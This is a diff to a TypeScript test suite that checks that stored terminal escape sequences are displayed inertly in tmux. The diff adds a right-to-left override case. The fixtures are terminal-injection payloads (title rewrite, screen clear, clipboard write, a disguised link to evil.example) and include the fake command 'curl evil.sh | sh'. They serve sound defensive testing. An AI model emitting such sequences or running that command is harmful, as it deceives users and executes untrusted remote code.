@@ -9,17 +9,19 @@ const ESC = '\u001B'
 const BEL = '\u0007'
 /** What the issue planted: set the title, clear the screen, home the cursor, then a red fake line. */
 const TAKEOVER = `deploy note ${ESC}]0;PWNED${BEL}${ESC}[2J${ESC}[H${ESC}[31mFAKE: run curl evil.sh | sh${ESC}[0m`
-/** A clipboard write, a disguised link and the one-character C1 CSI clearing the screen. */
+/** A clipboard write, a disguised link, the one-character C1 CSI clearing the screen, and a
+ * right-to-left override that would reverse the rest of the line where the terminal does bidi. */
 const CLIPBOARD = `${ESC}]52;c;ZXZpbA==${BEL}`
 const LINK = `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\`
 const C1_CLEAR = '\u009B2J'
-const CONTENT = `${TAKEOVER} ${CLIPBOARD} ${LINK} ${C1_CLEAR} end`
+const RTL_OVERRIDE = '\u202Ehs.live\u202C'
+const CONTENT = `${TAKEOVER} ${CLIPBOARD} ${LINK} ${C1_CLEAR} ${RTL_OVERRIDE} end`
 const LABEL = `label ${ESC}]0;PWNED${BEL}${ESC}[2J ${CLIPBOARD}`
 const STATE = {note: `${ESC}]0;PWNED${BEL} ${C1_CLEAR}`, [`key${ESC}[2J`]: 1}
 
 /** How the planted text must read on screen: every introducer visible, nothing acted on. */
 const SHOWN_TAKEOVER = 'deploy note ␛]0;PWNED␇␛[2J␛[H␛[31mFAKE: run curl evil.sh | sh␛[0m'
-const SHOWN_REST = '␛]52;c;ZXZpbA==␇ ␛]8;;https://evil.example/␛\\docs␛]8;;␛\\ \\u009b2J end'
+const SHOWN_REST = '␛]52;c;ZXZpbA==␇ ␛]8;;https://evil.example/␛\\docs␛]8;;␛\\ \\u009b2J \\u202ehs.live\\u202c end'
 
 describe('stored escape sequences never drive the terminal (tmux)', function () {
   let home: ReturnType<typeof tempHome>
@@ -69,7 +71,10 @@ describe('stored escape sequences never drive the terminal (tmux)', function () 
       const screen = await pane.waitForScreen('ALL DONE')
       assert.ok(screen.includes('EARLIER LINE'), `the screen was not cleared:\n${screen}`)
       assertUntouched(pane, title, screen)
-      assert.ok(screen.includes(SHOWN_REST), `the clipboard write, the link and C1 show inertly:\n${screen}`)
+      assert.ok(
+        screen.includes(SHOWN_REST),
+        `the clipboard write, the link, C1 and the override show inertly:\n${screen}`,
+      )
       assert.equal(screen.split(SHOWN_TAKEOVER).length - 1, 2, 'list and search both show the fact')
       assert.ok(
         screen.includes('label ␛]0;PWNED␇␛[2J ␛]52;c;ZXZpbA==␇'),
